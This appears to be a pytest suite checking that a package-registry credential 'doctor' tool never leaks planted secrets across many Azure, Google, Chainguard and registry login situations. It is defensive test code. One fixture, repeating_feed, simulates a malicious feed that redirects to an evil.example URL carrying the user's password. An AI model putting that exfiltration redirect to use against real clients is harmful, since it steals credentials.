"""Planted secrets are in no output of the doctor, for every outcome of a lookup."""

from __future__ import annotations

import base64
import json
import secrets
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from lab import chainctl, faults
from lab.clients import Client
from lab.cloud import PracticeCloud
from lab.fake_programs import Answer, FakePrograms, az_token
from lab.known_store import KnownStore
from lab.registries.google.files import GoogleFiles
from lab.registries.menda import REGISTRY_HOST
from support.doctor import SET_UP, Doctor
from support.tool_settings import pypirc, write

AZURE, MENDA = "pkgs.dev.azure.com", f"https://{REGISTRY_HOST}/pypi/plugins/simple/"
GOOGLE = "https://us-central1-python.pkg.dev/contoso-tools/tools/simple/"
CHAINGUARD = "https://libraries.cgr.dev/python/simple/"


class Planted:
    """Planted secrets, by name."""

    def __init__(self) -> None:
        self.values: dict[str, str] = {}

    def __call__(self, name: str, value: str | None = None) -> str:
        """The secret of this name, created on first use."""
        return self.values.setdefault(name, value or f"planted-{secrets.token_hex(12)}")

    def assert_hidden(self, text: str) -> None:
        """A text contains none of them, neither plain, encoded nor in part."""
        for name, value in self.values.items():
            forms = {value, quote(value, safe=""), json.dumps(value)[1:-1], value[4:24]}
            forms |= {base64.b64encode(f"{user}:{value}".encode()).decode()[:-4] for user in ("", "frodo", "aws")}
            if value.startswith("eyJ"):
                forms |= {part[:40] for part in value.split(".")[1:]}
            assert [form for form in forms if form in text] == [], (name, text)


@pytest.fixture
def planted(doctor: Doctor) -> Planted:
    """Secrets in every file that the doctor reads, and in every file beside them."""
    made, home = Planted(), doctor.home
    url = f"https://frodo:{{}}@{AZURE}/contoso/_packaging/{{}}/pypi/simple/"
    write(home / ".netrc", f"machine {AZURE}\nlogin frodo\npassword {made('netrc')}\n")
    write(home / ".pypirc", pypirc(f"https://{AZURE}/contoso/_packaging/tools/pypi/upload", made("pypirc")))
    write(home / ".config" / "pip" / "pip.conf", f"[global]\nindex-url = {url.format(made('pip.conf'), 'a')}\n")
    uv = f'[[index]]\nname = "one"\nurl = "{url.format(made("uv.toml"), "b")}"\n'
    write(home / ".config" / "uv" / "uv.toml", f"[pip]\nextra-index-url = ['{url.format(made('uv pip'), 'c')}']\n{uv}")
    write(home / "uv.toml", uv.replace(made("uv.toml"), made("uv.toml of the project")))
    write(home / ".config" / "pypoetry" / "auth.toml", f"[http-basic.x]\nusername='x'\npassword='{made('poetry')}'\n")
    return made


def variables_of(planted: Planted, doctor: Doctor) -> dict[str, str | None]:
    """Secrets in every variable of the tools that is read, and in some beside them."""
    url = f"https://frodo:{{}}@{AZURE}/contoso/_packaging/tools/pypi/simple/?sig={{}}#{{}}"

    def address(name: str) -> str:
        return url.format(*(planted(f"{name} {part}") for part in ("password", "query", "fragment")))

    doctor.cloud.proxy.require("frodo", planted("proxy"))
    return {
        "HTTPS_PROXY": doctor.cloud.proxy_url,
        "PIP_CONFIG_FILE": None,
        "PIP_INDEX_URL": address("PIP_INDEX_URL"),
        "PIP_EXTRA_INDEX_URL": address("PIP_EXTRA_INDEX_URL"),
        "UV_INDEX": "contoso=" + address("UV_INDEX"),
        "UV_DEFAULT_INDEX": address("UV_DEFAULT_INDEX"),
        "UV_INDEX_CONTOSO_USERNAME": planted("UV_INDEX_CONTOSO_USERNAME"),
        "UV_INDEX_CONTOSO_PASSWORD": planted("UV_INDEX_CONTOSO_PASSWORD"),
        "UV_PUBLISH_TOKEN": planted("UV_PUBLISH_TOKEN"),
        "TWINE_PASSWORD": planted("TWINE_PASSWORD"),
        "POETRY_HTTP_BASIC_X_PASSWORD": planted("POETRY_HTTP_BASIC_X_PASSWORD"),
        "POETRY_PYPI_TOKEN_X": planted("POETRY_PYPI_TOKEN_X"),
        **SET_UP,
    }


Situation = Callable[[PracticeCloud, FakePrograms, Planted, Path], "dict[str, str | None]"]


def logged_in(cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path) -> dict[str, str | None]:
    fake_programs.az(*az_token(planted("az", cloud.azure.directory.user_token(cloud.azure.user))))
    return {}


def failing_az(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    fake_programs.az(Answer(planted("az stdout"), planted("az stderr"), code=1))
    return {}


def stale_token(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    return {"AZURE_DEVOPS_EXT_PAT": planted("AZURE_DEVOPS_EXT_PAT")}


def token_of_several_lines(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    return {"ARTIFACTS_KEYRING_NOFUSS_TOKEN": planted("a line") + "\n" + planted("another")}


def endpoints(cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path) -> dict[str, str | None]:
    document = {"endpointCredentials": [{"endpoint": cloud.azure.feed.url(), "password": planted("endpoint")}]}
    return {"ARTIFACTS_CREDENTIALPROVIDER_EXTERNAL_FEED_ENDPOINTS": json.dumps(document)}


def broken_endpoints(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    return {"ARTIFACTS_CREDENTIALPROVIDER_EXTERNAL_FEED_ENDPOINTS": '{"password": "' + planted("broken endpoint")}


def wrong_secret(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    secret = planted("client secret")
    body = json.dumps({"error": "invalid_client", "error_description": f"AADSTS7000215: {secret} is wrong"}).encode()
    cloud.faults.add(faults.status(401, {"Content-Type": "application/json"}, body), host="login.microsoftonline.com")
    return {"AZURE_CLIENT_ID": "an-application", "AZURE_CLIENT_SECRET": secret}


def repeating_exchange(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    logged_in(cloud, fake_programs, planted, home)
    body = json.dumps({"message": f"TF400813: {planted('az')} is nobody"}).encode()
    cloud.faults.add(faults.status(401, {"Content-Type": "application/json"}, body), host="vssps.dev.azure.com")
    return {}


def repeating_feed(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    def respond(request, answer):
        if not request.basic:
            return answer(request)
        where = "https://evil.example/?password=" + request.basic[1]
        return faults.sign_in_redirect(where)(request, answer)

    cloud.faults.add(respond, host=AZURE)
    return stale_token(cloud, fake_programs, planted, home)


def machine(cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path) -> dict[str, str | None]:
    planted("Menda secret", cloud.menda.client_secret)
    return dict(cloud.menda.variables)


def wrong_machine(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    return {**cloud.menda.variables, "MENDA_CLIENT_SECRET": planted("wrong secret")}


def half_a_machine(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    return {"MENDA_CLIENT_SECRET": planted("half a machine")}


def menda_files(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    secret = planted("secret of a file")
    cloud.menda.write_profile(home, f"[default]\nauth_type = m2m\nclient_id = x\nclient_secret = {secret}\nhost = x\n")
    cloud.menda.write_login(home, planted("login"))
    return {}


def pull_token(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    identity, token = cloud.chainguard.pull_token()
    return {"CHAINGUARD_PYTHON_IDENTITY_ID": identity, "CHAINGUARD_PYTHON_TOKEN": planted("pull token", token)}


def cached(cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path) -> dict[str, str | None]:
    cloud.chainguard.write_cache(home, planted("cached", cloud.chainguard.token()))
    return {}


def odd_tokens(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    cloud.chainguard.write_cache(home, planted("no token") + " " + planted("second word"))
    fake_programs.chainctl(chainctl.logged_in(planted("chainctl") + "\n" + planted("second line")))
    return {"CHAINCTL_AUTH_TOKEN": planted("CHAINCTL_AUTH_TOKEN", cloud.chainguard.token(lifetime=-9))}


def person_of_google(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    login = cloud.google.login
    planted("refresh token", login.refresh_token)
    planted("client secret of Google", login.client.secret)
    GoogleFiles(home).write_application_default(login.file)
    return {}


def service_account(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    planted("private key", cloud.google.key.private_key.splitlines()[4])
    return {"GOOGLE_APPLICATION_CREDENTIALS": str(GoogleFiles(home).write(cloud.google.key.file))}


def repeating_token_endpoint(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    person_of_google(cloud, fake_programs, planted, home)
    text = f"{planted('refresh token')} of {planted('client secret of Google')} is unknown"
    body = json.dumps({"error": "invalid_grant", "error_description": text}).encode()
    cloud.faults.add(faults.status(400, {"Content-Type": "application/json"}, body), host="oauth2.googleapis.com")
    return {}


def failing_gcloud(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    fake_programs.gcloud(Answer(planted("gcloud stdout"), planted("gcloud stderr"), code=1))
    return {}


def access_token_of_google(
    cloud: PracticeCloud, fake_programs: FakePrograms, planted: Planted, home: Path
) -> dict[str, str | None]:
    return {"CLOUDSDK_AUTH_ACCESS_TOKEN": planted("CLOUDSDK_AUTH_ACCESS_TOKEN")}


SITUATIONS: dict[str, list[Situation]] = {
    "azure": [
        logged_in,
        failing_az,
        stale_token,
        token_of_several_lines,
        endpoints,
        broken_endpoints,
        wrong_secret,
        repeating_exchange,
        repeating_feed,
    ],
    MENDA: [machine, wrong_machine, half_a_machine, menda_files],
    CHAINGUARD: [pull_token, cached, odd_tokens],
    GOOGLE: [person_of_google, service_account, repeating_token_endpoint, failing_gcloud, access_token_of_google],
}


@pytest.mark.parametrize(
    ("url", "situation"),
    [(url, one) for url, several in SITUATIONS.items() for one in several],
    ids=[one.__name__.replace("_", " ") for several in SITUATIONS.values() for one in several],
)
def test_no_secret_is_shown(
    cloud: PracticeCloud,
    doctor: Doctor,
    planted: Planted,
    fake_programs: FakePrograms,
    native: Client,
    tool: Client,
    url: str,
    situation: Situation,
) -> None:
    variables = {**variables_of(planted, doctor), **situation(cloud, fake_programs, planted, doctor.home)}
    url = cloud.azure.feed.url() if url == "azure" else url
    given = url.replace("://", f"://frodo:{planted('password given')}@") + f"?sig={planted('query given')}"
    path = [native.bin, tool.bin]
    for words, debug in (([given], "1"), ([given, "--json"], None), ([given, "--json"], "1"), ([], None)):
        ended = doctor(*words, path=path, RINGBEARER_DEBUG=debug, **variables)
        assert ended.code in (0, 1) and "tools on this machine" in ended.stdout, ended
        assert bool(ended.stderr) == bool(debug), ended
        issued = [*cloud.azure.session_tokens.issued, *cloud.menda.registry_tokens, *cloud.google.tokens.issued]
        for token in issued:
            planted(token, token)
        for number, token in enumerate(cloud.menda.access_tokens):
            planted(f"access {number}", token)
        planted.assert_hidden(ended.output)
    assert all(words not in call.line for call in fake_programs.invocations() for words in planted.values.values())


@pytest.mark.parametrize(
    "given",
    [
        "https://frodo:{}@pkgs.dev.azure.com:8443/contoso/",
        "http://frodo:{}@pkgs.dev.azure.com/contoso/",
        "https://frodo:{}@registry.example/simple/?sig={}#{}",
        "frodo:{}@registry.example/simple/",
        "https://frodo:{}@[::1]/",
        "https://frodo:{} @pkgs.dev.azure.com/",
        "ftp://frodo:{}@pkgs.dev.azure.com/",
        "{}",
    ],
)
def test_no_password_of_an_odd_address_is_shown(
    doctor: Doctor, planted: Planted, known_store: KnownStore, given: str
) -> None:
    known_store.fill([(given.format(*["x"] * 3), "frodo", planted("stored"))])
    url = given.format(planted("a"), planted("b"), planted("c")) if given != "{}" else "x"
    for words in ([url], [url, "--json"]):
        ended = doctor(*words, SSH_AUTH_SOCK=known_store.socket, RINGBEARER_DEBUG="1")
        planted.assert_hidden(ended.output)


def test_the_value_of_a_setting_is_not_repeated(
    cloud: PracticeCloud, doctor: Doctor, native: Client, tool: Client
) -> None:
    planted = Planted()
    for variable in ("UV_KEYRING_PROVIDER", "PIP_KEYRING_PROVIDER", "POETRY_KEYRING_ENABLED", "NETRC", "PIP_NO_INPUT"):
        variables = {**SET_UP, variable: planted(variable)}
        for words in ([], ["--json"]):
            ended = doctor(cloud.azure.feed.url(), *words, path=[native.bin, tool.bin], **variables)
            planted.assert_hidden(ended.output)
